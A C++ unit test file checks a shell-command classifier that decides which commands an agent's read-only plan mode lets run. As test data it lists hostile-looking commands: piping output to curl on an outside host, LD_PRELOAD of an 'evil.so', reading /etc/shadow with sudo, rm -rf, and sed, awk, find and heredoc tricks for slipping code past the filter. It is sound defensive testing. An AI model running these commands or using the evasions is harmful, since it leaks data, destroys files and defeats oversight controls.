// Plan-mode classification (classify_readonly), table-driven. Each row is a command and whether
// plan mode lets it run; refusals also name what the reason must mention.
#include <gtest/gtest.h>

#include "policy/policy.hpp"

namespace ra::policy {
namespace {

struct row {
  const char *command;
  bool allowed;
  const char *reason_part = "";  // for refusals: a substring the reason must contain
};

void expect_rows(const std::vector<row> &rows) {
  for (const row &r : rows) {
    decision d = classify_readonly(r.command, default_readonly_commands());
    EXPECT_EQ(d.allowed, r.allowed) << "command: " << r.command << "\nreason: " << d.reason;
    if (!r.allowed) {
      EXPECT_NE(d.reason.find("plan mode: "), std::string::npos) << r.command << " → " << d.reason;
      EXPECT_NE(d.reason.find(r.reason_part), std::string::npos)
          << "command: " << r.command << "\nreason: " << d.reason << "\nexpected to mention: " << r.reason_part;
    }
  }
}

TEST(ReadonlyTest, PlainReadCommands) {
  expect_rows({
      {"ls -la", true},
      {"cat /etc/hostname", true},
      {"grep -rn 'TODO' src | head -20", true},
      {"ps aux | grep ssh | wc -l", true},
      {"df -h; du -sh .", true},
      {"uname -a && uptime || date", true},
      {"cd /srv/app && git status", true},
      {"/usr/bin/ls /tmp", true},
      {"LC_ALL=C sort file.txt", true},
      {"TZ=UTC date +%s", true},
      {"echo \"a > b\" 'c | d'", true},  // operators inside quotes are text
      {"echo a\\>b", true},              // an escaped > is text
      {"", true},
      {"   ", true},
      {"ls\nls -l\n", true},
      {"if test -f x; then cat x; else echo none; fi", true},
      {"{ ls; pwd; }", true},
      {"! grep -q foo bar", true},
      {"cat <<EOF\nhello; rm -rf x > y\nEOF", true},  // heredoc text is data for cat
      {"grep x < input.txt", true},
      {"cat <<< 'here string'", true},
      {"ls # > out.txt; rm -rf x", true},  // a comment, as in sh -c
      {"ls a#b", true},
  });
}

TEST(ReadonlyTest, UnlistedProgramsAreRefusedByName) {
  expect_rows({
      {"rm -rf build", false, "'rm' is not an allowed read-only command"},
      {"ls && touch x", false, "'touch'"},
      {"tee out.txt", false, "'tee'"},
      {"python3 -c 'print(1)'", false, "'python3'"},
      {"sudo cat /etc/shadow", false, "'sudo'"},
      {"xargs rm < list", false, "'xargs'"},
      {"nohup ls", false, "'nohup'"},
      {"bash -c ls", false, "'bash'"},
      {"eval ls", false, "'eval'"},
      {"export PATH=/tmp", false, "'export'"},
  });
}

TEST(ReadonlyTest, ProgramNamesMustBeLiteralAndFromSystemDirectories) {
  expect_rows({
      {"./cat /etc/passwd", false, "run by path"},
      {"/tmp/ls", false, "run by path"},
      {"/usr/bin/../../tmp/ls", false, "run by path"},
      {"$PAGER file", false, "computed at run time"},
      {"/bin/l? -la", false, "computed at run time"},
      {"{ls,-la}", false, "computed at run time"},
      {"'ls' -l", true},
      {"l\\s", true},
  });
}

TEST(ReadonlyTest, RedirectionsOnlyToDevNullOrDescriptors) {
  expect_rows({
      {"ls > out.txt", false, "output redirection"},
      {"ls >> out.txt", false, "output redirection"},
      {"ls >| out.txt", false, "output redirection"},
      {"ls &> out.txt", false, "output redirection"},
      {"ls 2> err.txt", false, "output redirection"},
      {"ls >&out.txt", false, "output redirection"},
      {"cat <> file", false, "output redirection"},
      {"> file", false, "output redirection"},
      {"ls > \"$F\"", false, "output redirection"},
      {"ls 2>&1 | grep x", true},
      {"echo oops >&2", true},
      {"ls 2>/dev/null", true},
      {"ls >/dev/null 2>&1", true},
      {"ls &>/dev/null", true},
      {"ls 2>&-", true},
  });
}

TEST(ReadonlyTest, SubstitutionSubshellsAndBackgroundAreRefused) {
  expect_rows({
      {"echo $(touch x)", false, "command substitution"},
      {"echo \"$(touch x)\"", false, "command substitution"},
      {"echo `touch x`", false, "command substitution"},
      {"diff <(ls a) <(ls b)", false, "command substitution"},
      {"ls >(cat)", false, "command substitution"},
      {"echo $((1+2))", false, "command substitution"},
      {"cat <<EOF\n$(touch x)\nEOF", false, "command substitution"},
      {"(ls)", false, "subshells"},
      {"f() { ls; }; f", false, "function definitions"},
      {"ls &", false, "background"},
      {"sleep 1 & ls", false, "background"},
      {"echo '$(not substituted)' '`nor this`'", true},
      {"cat <<'EOF'\n$(literal)\nEOF", true},
      {"echo \"unterminated", false, "could not be parsed"},
      {"((x = 1 << 2))", false, "computed at run time"},
  });
}

// Lines after a heredoc operator are data only where the shell agrees they are.
TEST(ReadonlyTest, HeredocLookalikesDoNotHideCode) {
  expect_rows({
      {"ls # <<EOF\ntouch x\nEOF", false, "'touch'"},  // the << is in a comment
      {"echo $((1<<2))\ntouch x\n2", false, "command substitution"},
      {"ls; ((1<<2))\ntouch x\n2", false, "computed at run time"},
      {"cat <<EOF; touch x\nbody\nEOF", false, "'touch'"},  // the rest of the line is code
      {"cat <<-EOF\n\tbody\n\tEOF\nls", true},
  });
}

TEST(ReadonlyTest, AssignmentsOnlyForHarmlessVariables) {
  expect_rows({
      {"LD_PRELOAD=/tmp/evil.so cat x", false, "setting LD_PRELOAD"},
      {"GIT_EXTERNAL_DIFF=/tmp/x git diff", false, "setting GIT_EXTERNAL_DIFF"},
      {"PATH=/tmp:$PATH; ls", false, "setting PATH"},
      {"BASH_ENV=/tmp/x ls", false, "setting BASH_ENV"},
      {"POSIXLY_CORRECT=1 sed p f", false, "setting POSIXLY_CORRECT"},
      {"env LD_PRELOAD=x ls", false, "setting LD_PRELOAD"},
      {"LANG=C LC_ALL=C.UTF-8 COLUMNS=80 ls", true},
      {"env LANG=C ls", true},
      {"X=1", false, "setting X"},
  });
}

// The reference let `env <anything>` through (§17.8); wrappers are now classified by what they run.
TEST(ReadonlyTest, WrappersAreClassifiedByTheCommandTheyRun) {
  expect_rows({
      {"env", true},
      {"env -i", true},
      {"env touch x", false, "'touch'"},
      {"env -i touch x", false, "'touch'"},
      {"env -u HOME -- touch x", false, "'touch'"},
      {"env -C /tmp ls", true},
      {"env --chdir=/tmp ls", true},
      {"env -S 'touch x'", false, "env -S"},
      {"env --split-string='touch x'", false, "env -S"},
      {"env -Z ls", false, "not understood"},
      {"env env env touch x", false, "'touch'"},
      {"timeout 5 cat x", true},
      {"timeout -s KILL 5 rm x", false, "'rm'"},
      {"timeout --kill-after=1 5 tail -f log", true},
      {"nice -n 10 ls", true},
      {"nice -10 rm x", false, "'rm'"},
      {"stdbuf -oL tail -f log", true},
      {"stdbuf -o L sed -i s/a/b/ f", false, "in place"},
      {"command ls", true},
      {"command -v rm", true},  // only looks the name up
      {"command rm x", false, "'rm'"},
      {"env $CMD", false, "computed at run time"},
      {"timeout 5 ./script", false, "run by path"},
  });
}

TEST(ReadonlyTest, SedMustNotWriteOrExecute) {
  expect_rows({
      {"sed -n '1,10p' file", true},
      {"sed 's/a/b/g' file", true},
      {"sed -e 's/a/b/' -e '/x/d' file", true},
      {"sed -E 's|/usr|/opt|2' f", true},
      {"sed '/start/,/end/{p;d}' f", true},
      {"sed 'a\\\nappended w text' f", true},  // a's text, not a w command
      {"sed 'y/abc/xyz/' f", true},
      {"sed -n '$p' f", true},
      {"sed '1~2d' f", true},
      {"sed ':a;N;$!ba;s/\\n/ /g' f", true},
      {"sed 'r /etc/hostname' f", true},
      {"sed -i 's/a/b/' f", false, "in place"},
      {"sed -i.bak 's/a/b/' f", false, "in place"},
      {"sed -ni p f", false, "in place"},
      {"sed --in-place s/a/b/ f", false, "in place"},
      {"sed --in-pl=.bak s/a/b/ f", false, "in place"},
      {"sed s/a/b/ -i f", false, "in place"},  // GNU permutes options after operands
      {"sed 'w /tmp/out' f", false, "'w' command"},
      {"sed -n '/x/w out' f", false, "'w' command"},
      {"sed '1W out' f", false, "'w' command"},
      {"sed 's/a/b/w out' f", false, "s///w"},
      {"sed 's/a/b/gw out' f", false, "s///w"},
      {"sed 's/.*/id/e' f", false, "s///e"},
      {"sed 's|a|b|e' f", false, "s///e"},
      {"sed 'e touch x' f", false, "'e' command"},
      {"sed '1e id' f", false, "'e' command"},
      {"sed -e p -e 'w x' f", false, "'w' command"},
      {"sed --expression='w x' f", false, "'w' command"},
      {"sed -f script.sed f", false, "script file"},
      {"sed --file=script.sed f", false, "script file"},
      {"sed '/x/{p;w out\n}' f", false, "'w' command"},
      {"sed 'b end; w x' f", false, "'w' command"},
      {"sed 's/a/b/ ; w x' f", false, "'w' command"},
      {"sed 'w x' -e p f", false, "'w' command"},  // a non-permuting sed takes 'w x' as the script
      {"sed \"$S\" f", false, "literal"},
      {"sed s/a/b/ *", false, "literal"},  // a file named -i would become an option
      {"sed s/a/b/ ./*.txt", true},
      {"sed 's/a/b' f", false, "could not be read"},
      {"sed 's/[/]/r/w out' f", false, "could not be read"},  // BSD sed reads w out as a flag
      {"sed 's/[a-z]/X/g; s/[\\t ]*$//' f", true},
      {"sed -n '/[[:digit:]]\\{3\\}/p' f", true},
      {"sed 's|[^/]*$||' f", true},
  });
}

TEST(ReadonlyTest, SortFindAwkAndFriends) {
  expect_rows({
      {"sort -u names.txt", true},
      {"sort -t, -k2n data.csv", true},
      {"sort -o out.txt in.txt", false, "sort -o"},
      {"sort -uo out.txt in.txt", false, "sort -o"},
      {"sort --output=out in", false, "sort -o"},
      {"sort --outp=out in", false, "sort -o"},
      {"sort --compress-program=sh in", false, "compress-program"},
      {"find . -name '*.c'", true},
      {"find / -xdev -type f -size +100M", true},
      {"find . -name x -exec rm {} ;", false, "-exec"},
      {"find . -execdir sh -c x ;", false, "-execdir"},
      {"find . -delete", false, "-delete"},
      {"find . -ok rm {} ;", false, "-ok"},
      {"find . -fprint out", false, "-fprint"},
      {"find . -fprint0 out", false, "-fprint0"},
      {"find . -fprintf out %p", false, "-fprintf"},
      {"find . -fls out", false, "-fls"},
      {"find . '-exec' rm {} ;", false, "-exec"},
      {"find . -name *.c", false, "literal"},
      {"awk '{print $1}' f", true},
      {"awk -F: '$3 > 1000 {print $1}' /etc/passwd", true},
      {"awk '/a|b/ {n++} END {print n}' f", true},
      {"awk '{ if ($1 > 5) print $2, ($3 > 1) }' f", true},
      {"awk 'BEGIN { print \"a > b | c\" }'", true},
      {"awk '$1 || $2' f", true},
      {"awk 'BEGIN{system(\"touch x\")}'", false, "system()"},
      {"awk 'BEGIN{system (\"touch x\")}'", false, "system()"},
      {"awk '{print > \"out\"}' f", false, "redirection"},
      {"awk '{print $1 >> \"out\"}' f", false, "redirection"},
      {"awk '{printf(\"%s\", $1) > \"out\"}' f", false, "redirection"},
      {"awk '{print | \"sh\"}' f", false, "pipes"},
      {"awk 'BEGIN{\"date\" | getline d}'", false, "pipes"},
      {"awk 'BEGIN{print |& \"cat\"}'", false, "pipes"},
      {"awk -i inplace '{print}' f", false, "load code"},
      {"awk --include=inplace '{print}' f", false, "load code"},
      {"awk -l ext '{print}' f", false, "load code"},
      {"awk '@load \"x\"; {print}' f", false, "@load"},
      {"awk -f prog.awk f", false, "program file"},
      {"awk -e 'BEGIN{system(\"x\")}'", false, "system()"},
      {"awk --source='{print}' f", true},
      {"awk -W exec x", false, "load code"},
      {"awk -v n=3 'NR==n' f", true},
      {"awk '{ x++ / 2; print > \"out\"; y = 1 / 1 }' f", false, "redirection"},
      {"awk '/[/]+/ { print > \"f\" } # /' f", false, "inside brackets"},
      {"awk '/[a-z]+/ && /[[:digit:]]/ { n++ } END { print n }' f", true},
      {"awk '/[\\t ]+$/ { n++ }' f", true},
      {"awk 'BEGIN { f = \"system\"; @f(\"id\") }'", false, "indirect"},
      {"awk -- '{print}' f", true},
      {"awk -o '{print}' f", false, "load code"},  // --pretty-print writes awkprof.out
      {"uniq in.txt", true},
      {"uniq -c in.txt", true},
      {"uniq -f 1 in.txt", true},
      {"uniq in.txt out.txt", false, "writes OUTPUT"},
      {"xxd file", true},
      {"xxd -s 16 -l 32 file", true},
      {"xxd -r -p in", true},
      {"xxd -r in out", false, "writes OUTFILE"},
      {"xxd in out", false, "writes OUTFILE"},
      {"tree -L 2", true},
      {"tree -o out.txt", false, "tree -o"},
      {"yq '.a' f.yaml", true},
      {"yq -i '.a = 1' f.yaml", false, "in place"},
      {"rg -n foo", true},
      {"rg --pre ./x foo", false, "--pre"},
      {"rg --pre-glob '*.gz' foo", true},
      {"file x", true},
      {"file -C -m magic", false, "file -C"},
      {"printf '%s\\n' a", true},
      {"printf -v PATH /tmp", false, "printf -v"},
  });
}

TEST(ReadonlyTest, SystemSettingsAreNotChanged) {
  expect_rows({
      {"date", true},
      {"date +%Y-%m-%d", true},
      {"date -d yesterday +%F", true},
      {"date -Iseconds", true},
      {"date -s '2020-01-01'", false, "sets the clock"},
      {"date --set=now", false, "sets the clock"},
      {"date 010203042024", false, "sets the clock"},
      {"hostname", true},
      {"hostname -I", true},
      {"hostname newname", false, "host name"},
      {"hostname -F /etc/x", false, "host name"},
      {"ip a", true},
      {"ip -br -4 addr show dev eth0", true},
      {"ip route get 1.1.1.1", true},
      {"ip link set eth0 down", false, "changes network"},
      {"ip addr add 10.0.0.1/24 dev eth0", false, "changes network"},
      {"ip r a default via 10.0.0.1", false, "changes network"},
      {"ip netns exec x touch y", false, "changes network"},
      {"ip -batch cmds", false, "from a file"},
      {"ifconfig", true},
      {"ifconfig eth0", true},
      {"ifconfig eth0 down", false, "changes the interface"},
      {"ss -tlnp", true},
      {"ss -K dst 1.2.3.4", false, "kills sockets"},
  });
}

TEST(ReadonlyTest, GitReadOnlySubcommands) {
  expect_rows({
      {"git status", true},
      {"git log --oneline -n 5", true},
      {"git diff HEAD~1", true},
      {"git --no-pager log", true},
      {"git -C /srv/repo status", true},  // the reference refused this
      {"git -C repo log -p", true},
      {"git --git-dir=/r/.git --work-tree=/r status", true},
      {"git grep -n foo", true},
      {"git blame -L 1,5 f", true},
      {"git --version", true},
      {"git show --stat HEAD", true},
      {"git branch", true},
      {"git branch -a -v", true},
      {"git branch -vv", true},
      {"git branch --contains=abc123", true},
      {"git branch --contains abc123", true},
      {"git branch --list 'feat*'", true},
      {"git branch --show-current", true},
      {"git tag", true},
      {"git tag -l 'v1.*'", true},
      {"git tag -n5", true},
      {"git config --get user.name", true},
      {"git config --list --show-origin", true},
      {"git config user.name", true},
      {"git config get user.name", true},
      {"git remote -v", true},
      {"git remote show origin", true},
      {"git remote get-url origin", true},
      {"git reflog", true},
      {"git reflog show main", true},
  });
}

TEST(ReadonlyTest, GitWritesAndCodeExecutionAreRefused) {
  expect_rows({
      {"git", false, "subcommand"},
      {"git push", false, "'git push'"},
      {"git commit -m x", false, "'git commit'"},
      {"git checkout main", false, "'git checkout'"},
      {"git -c core.pager=touch\\ x log", false, "'-c'"},
      {"git -c core.fsmonitor=x status", false, "'-c'"},
      {"git --exec-path=/tmp status", false, "--exec-path"},
      {"git -p log", false, "'-p'"},
      {"git diff --output=/tmp/x", false, "writes its output"},
      {"git log --output /tmp/x", false, "writes its output"},
      {"git log --outp=/tmp/x", false, "writes its output"},
      {"git show -o x", false, "writes its output"},
      {"git -C repo diff --output=x", false, "writes its output"},
      {"git grep -O foo", false, "pager"},
      {"git grep -Ovim foo", false, "pager"},
      {"git grep --open-files-in-pager=sh foo", false, "pager"},
      {"git branch newbranch", false, "creates a branch"},
      {"git branch -d old", false, "not a listing option"},
      {"git branch -D old", false, "not a listing option"},
      {"git branch -m a b", false, "not a listing option"},
      {"git branch --set-upstream-to=origin/x", false, "not a listing option"},
      {"git branch --unset-upstream", false, "not a listing option"},
      {"git branch --edit-description", false, "not a listing option"},
      {"git branch --merged -d", false, "needs a value"},
      {"git tag v1", false, "creates a tag"},
      {"git tag -a v1 -m x", false, "not a listing option"},
      {"git tag -d v1", false, "not a listing option"},
      {"git config user.name x", false, "change the configuration"},
      {"git config --unset user.name", false, "not a read-only config query"},
      {"git config --add a.b c", false, "not a read-only config query"},
      {"git config set user.name x", false, "change the configuration"},
      {"git config edit", false, "change the configuration"},
      {"git config -e", false, "not a read-only config query"},
      {"git remote add x url", false, "'git remote add'"},
      {"git remote remove origin", false, "'git remote remove'"},
      {"git reflog expire --all", false, "'git reflog expire'"},
      {"git -C \"$DIR\" status", false, "literal"},
  });
}

TEST(ReadonlyTest, CargoAndNpm) {
  expect_rows({
      {"cargo tree", true},
      {"cargo metadata --format-version 1", true},
      {"cargo --version", true},
      {"cargo fmt --check", true},
      {"cargo fmt", false, "rewrites files"},
      {"cargo check", false, "'cargo check'"},
      {"cargo build", false, "'cargo build'"},
      {"cargo --config 'build.rustc=\"x\"' tree", false, "--config"},
      {"cargo tree -Zunstable-options", false, "-Z"},
      {"npm ls", true},
      {"npm view react version", true},
      {"npm audit", true},
      {"npm audit fix", false, "npm audit fix"},
      {"npm install", false, "'npm install'"},
      {"npm run build", false, "'npm run'"},
  });
}

TEST(ReadonlyTest, CustomListReplacesTheDefault) {
  std::vector<std::string> list = {"ls", "git"};
  EXPECT_TRUE(classify_readonly("ls -l", list).allowed);
  EXPECT_FALSE(classify_readonly("cat x", list).allowed);
  EXPECT_FALSE(classify_readonly("git push", list).allowed);  // rules still apply to listed programs
  EXPECT_FALSE(classify_readonly("ls", {}).allowed);
}

TEST(ReadonlyTest, AwkVariantsGetTheSameRulesWhenListed) {
  std::vector<std::string> list = {"gawk", "mawk"};
  EXPECT_TRUE(classify_readonly("gawk '{print $1}' f", list).allowed);
  EXPECT_FALSE(classify_readonly("gawk -i inplace '{print}' f", list).allowed);
  EXPECT_FALSE(classify_readonly("mawk 'BEGIN{system(\"x\")}'", list).allowed);
  EXPECT_FALSE(classify_readonly("awk '{print}'", list).allowed);  // not listed here
}

TEST(ReadonlyTest, ReasonNamesTheProgram) {
  decision d = classify_readonly("ls | curl -d @- example.com", default_readonly_commands());
  ASSERT_FALSE(d.allowed);
  EXPECT_EQ(d.reason, "plan mode: 'curl' is not an allowed read-only command");
}

}  // namespace
}  // namespace ra::policy
